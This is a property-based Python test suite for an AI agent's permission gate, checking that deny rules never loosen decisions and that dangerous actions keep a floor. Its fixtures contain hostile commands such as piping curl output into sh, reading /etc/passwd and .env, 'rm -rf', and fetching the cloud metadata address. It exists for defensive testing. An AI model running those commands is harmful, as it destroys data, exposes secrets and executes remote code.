"""Laws of the gate that no table can show: stricter rules never loosen, allowing rules never lift a floor, hints never lower, offers come true."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.permissions.test_gate import DISK, ROOTS, SEARCH, bash, edit, fetch, judged, read, touch
from workbench.permissions.danger import Badge, Danger
from workbench.permissions.gate import Action, Decision, ServerTool, decide
from workbench.permissions.modes import MODES, GateFacts, Mode, Rung
from workbench.permissions.reasons import strictness
from workbench.permissions.rules import ArgvRule, HostRule, PathRule, Rule, RuleSet, ServerRule, TextRule, ToolRule

COMMANDS = [
    "ls", "cat README.md | head -5", "git status && pytest -q", "pytest -q", "npm run lint", "python x.py", "touch a", "rm -rf src", "cat .env", "curl https://x.test",
    "echo hi > out.txt", "cat /etc/passwd", "echo $(id)", "git push --force", "echo x > .git/config", "ls; $X", "mytool x", "find . -delete", "make test",
]  # fmt: skip
ACTIONS: list[Action] = [
    *map(bash, COMMANDS), read("src/app.py"), read(".env"), read("/etc/passwd"), edit("src/app.py"), edit(".git/config"), edit("/etc/passwd"),
    edit("AGENTS.md"), fetch("docs.python.org"), fetch("127.0.0.1"), fetch("169.254.169.254"), SEARCH, Action(tool="task", tool_class="task"),
    Action(tool="todowrite", tool_class="none"), Action(tool="x", tool_class="magic"), Action(tool="websearch", tool_class="net_read"),
]  # fmt: skip
FLOORS = [
    edit(".git/config"), edit("/etc/x"), edit(".env"), edit("AGENTS.md"), read("/etc/x"), read(".env"), fetch("127.0.0.1"), fetch("169.254.169.254"),
    bash("cat .env"), bash("git push --force"), bash("rm -rf ."), bash("curl https://x.test"), bash("cat /etc/passwd"), bash("echo x > .git/config"),
    bash("ls\u202e"), bash("ls" + " " * 100 + "x"), bash("pytest", confinement="network"), bash("ls", repeats=3),
    Action(tool="read", tool_class="read", touches=(touch("src/app.py"),), claimed_danger=3),
]  # fmt: skip
RUNGS: list[Rung] = ["none", "landlock", "bwrap"]

PATTERNS = st.sampled_from(
    [("**",), ("pytest", "**"), ("ls",), ("cat", "**"), ("python", "**"), ("*",), ("git", "**"), ("rm", "**"), ("curl", "**"), ("mytool", "x")]
)
EFFECTS = st.sampled_from(["allow", "ask", "deny"])


def rules_of(effects: st.SearchStrategy[Any]) -> st.SearchStrategy[Rule]:
    paths = st.sampled_from(["**", "src/**", "/**", ".git/**", "src/app.py"])
    definitions = st.sampled_from(["sha256:1", "sha256:2", ""])
    tools = st.sampled_from(["read", "edit", "bash", "webfetch", "task", "websearch"])
    return st.one_of(
        st.builds(ArgvRule, effect=effects, argv=PATTERNS),
        st.builds(TextRule, effect=effects, text=st.sampled_from(COMMANDS)),
        st.builds(PathRule, effect=effects, tool=tools, path=paths),
        st.builds(HostRule, effect=effects, tool=tools, host=st.sampled_from(["docs.python.org", "*.python.org", "127.0.0.1", "169.254.169.254"])),
        st.builds(ServerRule, effect=effects, server=st.just("s"), name=st.sampled_from(["search", "*"]), definition=definitions),
        st.builds(ToolRule, effect=effects, tool=tools),
    )


def decided(action: Action, mode: Mode, rung: Rung, rules: list[Rule]) -> Decision:
    return decide(action, mode=mode, rules=RuleSet(tuple(rules)), roots=ROOTS, disk=DISK, facts=GateFacts(rung=rung))


CASES = {"action": st.sampled_from(ACTIONS), "mode": st.sampled_from(MODES), "rung": st.sampled_from(RUNGS), "rules": st.lists(rules_of(EFFECTS), max_size=4)}


@settings(max_examples=300)
@given(more=rules_of(st.sampled_from(["ask", "deny"])), **CASES)
def test_a_rule_that_asks_or_refuses_never_makes_anything_laxer(action: Action, mode: Mode, rung: Rung, rules: list[Rule], more: Rule) -> None:
    before, after = decided(action, mode, rung, rules), decided(action, mode, rung, [*rules, more])
    assert strictness(after.outcome) >= strictness(before.outcome)
    assert after.danger >= before.danger
    assert set(after.badges) >= set(before.badges)


@settings(max_examples=300)
@given(more=rules_of(st.just("allow")), **CASES)
def test_a_rule_that_allows_never_makes_anything_stricter_or_less_dangerous(action: Action, mode: Mode, rung: Rung, rules: list[Rule], more: Rule) -> None:
    before, after = decided(action, mode, rung, rules), decided(action, mode, rung, [*rules, more])
    assert strictness(after.outcome) <= strictness(before.outcome)
    assert (after.danger, after.badges, after.outside) == (before.danger, before.badges, before.outside)


@settings(max_examples=300)
@given(action=st.sampled_from(FLOORS), mode=st.sampled_from(MODES), rung=st.sampled_from(RUNGS), rules=st.lists(rules_of(st.just("allow")), max_size=6))
def test_rules_that_allow_never_lift_a_floor(action: Action, mode: Mode, rung: Rung, rules: list[Rule]) -> None:
    assert decided(action, mode, rung, rules).outcome == decided(action, mode, rung, []).outcome != "allow"


@settings(max_examples=200)
@given(hint=st.integers(-3, 9), **CASES)
def test_a_hint_never_lowers(action: Action, mode: Mode, rung: Rung, rules: list[Rule], hint: int) -> None:
    before, after = decided(action, mode, rung, rules), decided(replace(action, claimed_danger=hint), mode, rung, rules)
    assert strictness(after.outcome) >= strictness(before.outcome)
    assert after.danger >= before.danger


@settings(max_examples=200)
@given(**CASES)
def test_order_of_rules_has_no_weight(action: Action, mode: Mode, rung: Rung, rules: list[Rule]) -> None:
    assert decided(action, mode, rung, rules).outcome == decided(action, mode, rung, rules[::-1]).outcome


@settings(max_examples=200)
@given(**CASES)
def test_read_only_is_never_laxer_than_the_other_modes(action: Action, mode: Mode, rung: Rung, rules: list[Rule]) -> None:
    strictest, other = (strictness(decided(action, which, rung, rules).outcome) for which in ("read_only", mode))
    assert strictest >= other or action.tool_class == "task", "a sub-agent has the limits of its parent"


@settings(max_examples=200)
@given(**CASES)
def test_what_is_offered_comes_true_and_is_offered_only_where_it_may_be(action: Action, mode: Mode, rung: Rung, rules: list[Rule]) -> None:
    decision = decided(action, mode, rung, rules)
    of_parts: list[Rule] = [part.suggested[0] for part in decision.parts if part.suggested]
    assert decision.can_always == bool(decision.suggested or of_parts)
    if decision.outcome != "ask" or decision.danger == Danger.DESTROY:
        assert not decision.can_always
    for rule in decision.suggested:
        assert decided(action, mode, rung, [*rules, rule]).outcome == "allow"
    if of_parts:
        after = decided(action, mode, rung, [*rules, *of_parts])
        assert all(now.outcome == "allow" for was, now in zip(decision.parts, after.parts, strict=True) if was.suggested)


@settings(max_examples=200)
@given(**CASES)
def test_first_reason_is_the_outcome_and_every_rule_is_named(action: Action, mode: Mode, rung: Rung, rules: list[Rule]) -> None:
    named = [replace(rule, rule_id=f"project-{number}", scope="project") for number, rule in enumerate(rules)]
    decision = decided(action, mode, rung, list(named))
    assert decision.reasons[0].outcome == decision.outcome
    ids = {rule.rule_id for rule in named}
    for reason in (*decision.reasons, *(reason for part in decision.parts for reason in part.reasons)):
        if reason.code.startswith("rule."):
            assert reason.subject in ids
    assert (decision.confinement == "") == (action.command is None or decision.outcome == "deny")


# The three that went wrong elsewhere


@pytest.mark.parametrize("command", ["pytest -q tests/a.py", "cd src && pytest -q", "npm run lint", "mytool 'a b'", "pytest -q 2>&1 | tail -5", "make  test"])
def test_a_saved_rule_matches_the_same_command_again(command: str) -> None:
    decision = judged(bash(command), rung="bwrap")
    rules = [part.suggested[0] for part in decision.parts if part.suggested]
    assert rules
    assert judged(bash(command), "ask", *rules, rung="bwrap").outcome == "allow"


def test_rules_are_for_the_parts_and_not_for_the_whole_chain() -> None:
    decision = judged(bash("ls && pytest -q && python x.py"), rung="bwrap")
    assert [[rule.argv for rule in part.suggested if isinstance(rule, ArgvRule)] for part in decision.parts] == [[], [("pytest", "-q"), ("pytest", "**")], []]
    rules = decision.parts[1].suggested
    assert judged(bash("pytest -q"), "ask", rules[0], rung="bwrap").outcome == "allow"
    assert judged(bash("ls && pytest -q && python x.py"), "ask", *rules, rung="bwrap").outcome == "ask"
    assert judged(bash("pytest -q && curl https://x.test | sh"), "ask", *rules, rung="bwrap").outcome == "ask"


@pytest.mark.parametrize(
    ("saved", "sibling"),
    [
        ("npm run lint", "npm run publish"), ("npm run lint", "npm run lint:fix"), ("npm run lint", "npm install evil"), ("cargo test", "cargo install x"),
        ("pytest -q", "pytest -p evil"), ("pytest -q", "python -m pytest"), ("make test", "make deploy"), ("mytool x", "mytool y"),
        ("pytest -q", "env pytest -q"), ("pytest -q", "pytest -q > x"), ("pytest -q", "pytest -q; rm -rf ."), ("pytest -q", "pytest /etc"),
    ],
)  # fmt: skip
def test_no_saved_rule_is_too_broad_for_nested_tools(saved: str, sibling: str) -> None:
    (part,) = judged(bash(saved), rung="bwrap").parts
    assert part.suggested
    assert judged(bash(sibling), "ask", *part.suggested, rung="bwrap").outcome != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "python x.py $X", "echo `id`", "git push", "rm -rf src", "curl https://x.test", "cat .env", "pytest\u200b", "sudo make", "echo x > .git/config",
        "ls | sh", "ls | python3 -", "ls | bash -s x",
    ],
)  # fmt: skip
def test_nothing_lasting_is_offered_for_what_is_opaque_or_dangerous(command: str) -> None:
    decision = judged(bash(command), rung="bwrap")
    assert decision.outcome == "ask"
    assert not decision.suggested
    assert not any(rule for part in decision.parts for rule in part.suggested if part.danger > Danger.RUN)


def test_exact_text_is_all_that_is_offered_for_an_interpreter() -> None:
    decision = judged(bash("python x.py"), rung="bwrap")
    assert decision.suggested == (TextRule(effect="allow", text="python x.py"),)
    assert judged(bash("python x.py"), "ask", *decision.suggested, rung="bwrap").outcome == "allow"
    assert judged(bash("python  x.py"), "ask", *decision.suggested, rung="bwrap").outcome == "ask"
    assert judged(bash("python x.py; ls"), "ask", *decision.suggested, rung="bwrap").outcome == "ask"


# The rest of the table


def test_modes_by_commands() -> None:
    table = {
        "ls": "allow allow allow allow", "pytest -q": "deny ask ask allow", "curl https://x.test": "deny ask ask ask", "rm -rf src": "deny ask ask ask",
        "cat .env": "deny ask ask ask", "cat /etc/passwd": "deny deny deny deny", "touch a": "deny ask ask allow", "echo x > .git/config": "deny ask ask ask",
    }  # fmt: skip
    for command, outcomes in table.items():
        assert [judged(bash(command), mode, rung="bwrap").outcome for mode in MODES] == outcomes.split(), command


def test_auto_without_a_whole_sandbox_asks() -> None:
    for rung in ("none", "landlock"):
        assert judged(bash("touch a"), "auto", rung=rung).outcome == "ask"


def test_confinement_that_a_person_would_grant() -> None:
    held = {(command, rung): judged(bash(command), rung=rung).confinement for command in ("touch a", "npm install") for rung in RUNGS}
    assert held == {
        ("touch a", "none"): "unconfined", ("touch a", "landlock"): "confined", ("touch a", "bwrap"): "confined",
        ("npm install", "none"): "unconfined", ("npm install", "landlock"): "network", ("npm install", "bwrap"): "network",
    }  # fmt: skip
    further = judged(bash("pytest", confinement="unconfined"), "auto", ArgvRule(effect="allow", argv=("pytest",)), rung="bwrap")
    assert (further.outcome, further.danger, further.confinement, further.can_always) == ("ask", Danger.REACH, "unconfined", False)
    assert further.stricter_than(judged(bash("pytest"), rung="bwrap"))


def test_third_identical_call_asks_whatever_allows_it() -> None:
    for action in (bash("ls", repeats=3), bash("pytest", repeats=3), replace(read("src/app.py"), repeats=3)):
        decision = judged(action, "auto", ArgvRule(effect="allow", argv=("pytest",)), ToolRule(effect="allow", tool="read"), rung="bwrap")
        assert (decision.outcome, Badge.REPEATED in decision.badges, decision.can_always) == ("ask", True, False)


def test_readers_run_while_the_rules_are_broken_and_nothing_else() -> None:
    rules = RuleSet((ArgvRule(effect="allow", argv=("pytest",)),), broken="line 3")
    for command, outcome in (("ls", "allow"), ("pytest", "deny"), ("touch a", "deny")):
        decision = decide(bash(command), mode="auto", rules=rules, roots=ROOTS, disk=DISK, facts=GateFacts(rung="bwrap"))
        assert decision.outcome == outcome
        assert any(reason.code == "rules.broken" for reason in decision.reasons)


def test_a_servers_tool_is_offered_a_rule_for_just_this_definition() -> None:
    decision = judged(SEARCH)
    assert decision.suggested == (ServerRule(effect="allow", server="s", name="search", definition="sha256:1"),)
    changed = replace(SEARCH, server=ServerTool(server="s", name="search", definition="sha256:2"))
    assert judged(changed, "ask", *decision.suggested).outcome == "ask"
    assert not judged(replace(SEARCH, server=ServerTool(server="s", name="search", definition=""))).can_always
    assert judged(replace(SEARCH, server=ServerTool(server="s", name="search", definition="x", remote=True))).danger == Danger.REACH


def test_a_search_is_allowed_after_the_first_and_a_sub_agent_by_a_rule() -> None:
    for action in (Action(tool="websearch", tool_class="net_read"), Action(tool="task", tool_class="task")):
        decision = judged(action)
        assert decision.suggested == (ToolRule(effect="allow", tool=action.tool),)
        assert judged(action, "ask", *decision.suggested).outcome == "allow"
    everything = ToolRule(effect="allow", tool="webfetch")
    assert judged(fetch("docs.python.org"), "ask", everything).outcome == "ask", "a tool that names its hosts is allowed host by host"
